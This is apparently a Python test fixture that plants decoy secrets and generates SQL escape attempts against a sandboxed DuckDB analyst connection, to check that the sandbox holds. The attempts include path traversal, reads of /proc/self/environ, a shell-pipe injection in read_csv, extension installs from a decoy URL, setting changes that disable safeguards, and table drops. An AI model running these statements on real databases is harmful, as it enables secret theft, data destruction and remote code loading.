"""Statements by which somebody at the analyst's connection would read, write or reach something else than the release.

Every statement names one of the decoys: files that hold a secret, a folder that must stay empty, a server on loopback.
"""

from __future__ import annotations

import csv
import json
import sqlite3
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import duckdb

SECRET = "SECRET-OF-THE-DECOY"
_READERS = (
    *("read_csv", "read_csv_auto", "sniff_csv", "read_text", "read_blob", "read_json", "read_json_auto", "read_ndjson"),
    *("read_ndjson_auto", "read_json_objects", "read_ndjson_objects", "read_parquet", "parquet_scan", "glob"),
    *("parquet_metadata", "parquet_schema", "parquet_kv_metadata", "parquet_file_metadata", "read_duckdb"),
)
_SETTINGS = {
    "enable_external_access": "true",
    "lock_configuration": "false",
    "allowed_directories": "['/']",
    "allowed_paths": "['/etc/passwd']",
    "autoinstall_known_extensions": "true",
    "autoload_known_extensions": "true",
    "allow_community_extensions": "true",
    "allow_unsigned_extensions": "true",
    "allow_persistent_secrets": "true",
    "python_enable_replacements": "true",
    "custom_extension_repository": "'{url}'",
    "autoinstall_extension_repository": "'{url}'",
    "extension_directory": "'{folder}'",
    "home_directory": "'{folder}'",
    "secret_directory": "'{folder}'",
    "temp_directory": "'{folder}'",
    "log_query_path": "'{folder}/log.sql'",
    "profiling_output": "'{folder}/profile.json'",
    "enable_profiling": "'json'",
    "enable_logging": "true",
    "logging_storage": "'file'",
    "memory_limit": "'400GB'",
    "max_memory": "'400GB'",
    "threads": "64",
    "http_proxy": "'{url}'",
    "force_mbedtls_unsafe": "true",
    "access_mode": "'read_write'",
    "storage_compatibility_version": "'latest'",
    "disabled_filesystems": "''",
    "file_search_path": "'{folder}'",
}


@dataclass(frozen=True)
class Decoys:
    """Where the secrets lie, the folder in which nothing may appear, a URL that nobody may call."""

    secrets: tuple[Path, ...]
    folder: Path
    url: str


def plant(home: Path, url: str) -> Decoys:
    """Write a secret in every format that the engine reads, a link to one, and an empty folder."""
    inside, folder = home / "decoys", home / "empty"
    inside.mkdir(parents=True)
    folder.mkdir()
    for name in ("secret.txt", "secret.csv"):
        (inside / name).write_text(f"a,b\n{SECRET},1\n")
    with (inside / "secret.tsv").open("w", newline="") as stream:
        csv.writer(stream, delimiter="\t").writerows([["a", "b"], [SECRET, 1]])
    (inside / "secret.json").write_text(json.dumps([{"a": SECRET}]))
    (inside / "secret.ndjson").write_text(json.dumps({"a": SECRET}) + "\n")
    with duckdb.connect() as con:
        con.execute(f"COPY (SELECT '{SECRET}' AS a) TO '{inside}/secret.parquet' (KV_METADATA {{a: '{SECRET}'}})")
        con.execute(f"ATTACH '{inside}/secret.duckdb' AS d; CREATE TABLE d.t AS SELECT '{SECRET}' AS a; DETACH d")
    with sqlite3.connect(inside / "secret.sqlite") as db:
        db.execute(f"CREATE TABLE t AS SELECT '{SECRET}' AS a")
    (inside / "link.csv").symlink_to(inside / "secret.csv")
    return Decoys(tuple(sorted(inside.iterdir())), folder, url)


def attempts(decoys: Decoys, release: Path) -> Iterator[str]:
    """Every statement, one after the other; some are several, as a shell would take them."""
    names = [str(path) for path in decoys.secrets]
    around = [f"{release.parent}/../../../decoys/secret.csv", "file://" + names[1], f"{decoys.secrets[0].parent}/*"]
    places = [*names, *around, "/proc/self/environ", "/proc/self/maps", f"{decoys.url}/secret.csv"]
    for number, reader in enumerate(_READERS):
        fitting = [p for p in places if _fits(reader, p)]
        yield from (f"SELECT * FROM {reader}('{place}')" for place in fitting)
        yield f"SELECT * FROM {reader}(['{names[0]}', '{names[number % len(names)]}'])"
    yield from (f"SELECT * FROM '{place}'" for place in places)
    yield from _reached_by_a_detour(names)
    yield from _written(decoys, names, release)
    for name, value in _SETTINGS.items():
        given = value.format(folder=decoys.folder, url=decoys.url)
        yield f"SET {name} = {given}"
        yield f"SET GLOBAL {name} = {given}"
        yield f"RESET {name}"
        yield f"PRAGMA {name} = {given}"
    yield from _called(decoys)
    yield from _of_the_release()
    yield f"ATTACH '{release}' AS again (READ_WRITE); DROP TABLE again.adam.adsl"
    yield f"DETACH release; ATTACH '{release}' AS release; DROP TABLE release.adam.adsl"
    yield f"USE memory; DETACH release; ATTACH '{release}' AS release; DROP TABLE release.adam.adsl"


def _fits(reader: str, place: str) -> bool:
    """The format is one that the reader knows, or no format is told by the name."""
    kinds = {"csv": (".csv", ".tsv", ".txt"), "json": ("json",), "parquet": (".parquet",), "duckdb": (".duckdb",)}
    wanted = next((ends for kind, ends in kinds.items() if kind in reader), None)
    return wanted is None or place.endswith(wanted) or "secret" not in place


def _reached_by_a_detour(names: list[str]) -> Iterator[str]:
    """The same through views, macros, prepared statements, variables and text that is run as SQL."""
    file, database, lite = (next(n for n in names if n.endswith(e)) for e in (".csv", "secret.duckdb", ".sqlite"))
    yield f"CREATE TEMP VIEW v AS SELECT * FROM read_csv('{file}'); SELECT * FROM v"
    yield f"CREATE TEMP MACRO m() AS TABLE SELECT * FROM read_text('{file}'); SELECT * FROM m()"
    yield f"PREPARE p AS SELECT * FROM read_text(?); EXECUTE p('{file}')"
    yield f"SELECT * FROM query('SELECT * FROM read_text(''{file}'')')"
    yield f"SELECT * FROM query_table('{file}')"
    yield f"SET VARIABLE f = '{file}'; SELECT * FROM read_text(getvariable('f'))"
    yield f"WITH x AS (FROM read_text('{file}')) SELECT content FROM x"
    yield f"SELECT (SELECT content FROM read_text('{file}'))"
    yield f"SELECT * FROM adam.adsl, read_text('{file}')"
    yield f"EXPLAIN ANALYZE SELECT * FROM read_text('{file}')"
    yield f"SUMMARIZE FROM read_csv('{file}')"
    yield f"DESCRIBE FROM read_csv('{file}')"
    own = "memory.main.mine"
    yield f"CREATE TABLE {own} (a VARCHAR, b INT); COPY {own} FROM '{file}'; FROM {own}"
    yield f"COPY adam.adsl FROM '{file}'"
    yield f"PIVOT (FROM read_csv('{file}')) ON a"
    yield f"SELECT * FROM json_execute_serialized_sql(json_serialize_sql('SELECT * FROM read_text(''{file}'')'))"
    for options in ("", " (READ_ONLY)", " (TYPE duckdb)", " (READ_ONLY, TYPE duckdb)"):
        yield f"ATTACH '{database}' AS other{options}; SELECT * FROM other.t"
    for options in ("", " (TYPE sqlite)", " (TYPE sqlite, READ_ONLY)"):
        yield f"ATTACH '{lite}' AS lite{options}; SELECT * FROM lite.t"
    yield f"SELECT * FROM sqlite_scan('{lite}', 't')"
    yield f"IMPORT DATABASE '{Path(file).parent}'"
    for name in ("own_frame", "decoys", "SECRET"):  # Python variables of whoever runs the statement
        yield f"SELECT * FROM {name}"
    yield "SELECT getenv('HOME')"
    yield "SELECT * FROM duckdb_secrets()"


def _written(decoys: Decoys, names: list[str], release: Path) -> Iterator[str]:
    """Files made, changed or taken away: by copies, databases, logs, profiles."""
    empty, own = decoys.folder, release.parent
    for target in (f"{empty}/out", f"{own}/out", names[0], str(release), "/tmp/of-an-escape"):
        for form in ("CSV", "JSON", "PARQUET"):
            yield f"COPY (SELECT 1 AS a) TO '{target}' (FORMAT {form})"
        yield f"COPY (SELECT 1 AS a, 2 AS b) TO '{target}' (FORMAT PARQUET, PARTITION_BY (a), OVERWRITE_OR_IGNORE)"
    for target in (empty, own):
        yield f"EXPORT DATABASE '{target}/all'"
        yield f"EXPORT DATABASE release TO '{target}/all'"
        yield f"ATTACH '{target}/new.duckdb' AS new; CREATE TABLE new.t AS SELECT 1"
        yield f"ATTACH '{target}/new.sqlite' AS newer (TYPE sqlite)"
        yield f"COPY FROM DATABASE release TO '{target}/copy.duckdb'"
        yield f"CALL enable_logging(storage = 'file', storage_config = {{'path': '{target}/logs'}})"
        yield f"CALL enable_profiling(format = 'json', save_location = '{target}/profile.json')"
        yield f"CALL write_log('x'); PRAGMA profile_output = '{target}/profile.json'"


def _called(decoys: Decoys) -> Iterator[str]:
    """Extensions, secrets and other machines."""
    for name in (
        "httpfs",
        "sqlite",
        "postgres",
        "excel",
        "spatial",
        "shellfs",
        f"'{decoys.folder}/x.duckdb_extension'",
    ):
        yield f"INSTALL {name}"
        yield f"LOAD {name}"
        yield f"FORCE INSTALL {name} FROM '{decoys.url}'"
    yield "UPDATE EXTENSIONS"
    yield "INSTALL shellfs FROM community"
    for kind in ("s3", "http", "gcs", "postgres"):
        yield f"CREATE PERSISTENT SECRET s (TYPE {kind})"
        yield f"CREATE SECRET t (TYPE {kind})"
    for scheme in ("https://example.org/a.csv", "s3://bucket/a.csv", "gcs://bucket/a.csv", "hf://datasets/a/a.csv"):
        yield f"SELECT * FROM read_csv('{scheme}')"
    yield f"ATTACH '{decoys.url}/x.duckdb' AS far"
    yield "ATTACH 'host=127.0.0.1 dbname=postgres' AS pg (TYPE postgres)"
    yield f"SELECT * FROM read_csv('| cat {decoys.secrets[1]}')"


def _of_the_release() -> Iterator[str]:
    """What was published, changed."""
    yield "INSERT INTO adam.adsl SELECT * FROM adam.adsl"
    yield "UPDATE adam.adsl SET usubjid = 'x'"
    yield "DELETE FROM adam.adsl"
    yield "TRUNCATE adam.adsl"
    yield "DROP TABLE adam.adsl"
    yield "DROP SCHEMA adam CASCADE"
    yield "ALTER TABLE adam.adsl ADD COLUMN more INT"
    yield "ALTER TABLE adam.adsl RENAME TO other"
    yield "CREATE TABLE adam.mine AS SELECT 1"
    yield "CREATE VIEW adam.mine AS SELECT 1"
    yield "CREATE SCHEMA mine"
    yield "CREATE INDEX i ON adam.adsl (usubjid)"
    yield "CREATE OR REPLACE TABLE adam.adsl AS SELECT 1"
    yield "COMMENT ON TABLE adam.adsl IS 'changed'"
    yield "MERGE INTO adam.adsl USING (SELECT 'CW-1' AS u) ON usubjid = u WHEN MATCHED THEN DELETE"
    yield "BEGIN; DELETE FROM adam.adsl; COMMIT"
    yield "CHECKPOINT release"
    yield "FORCE CHECKPOINT release"
    yield "VACUUM adam.adsl"
    yield "ANALYZE"
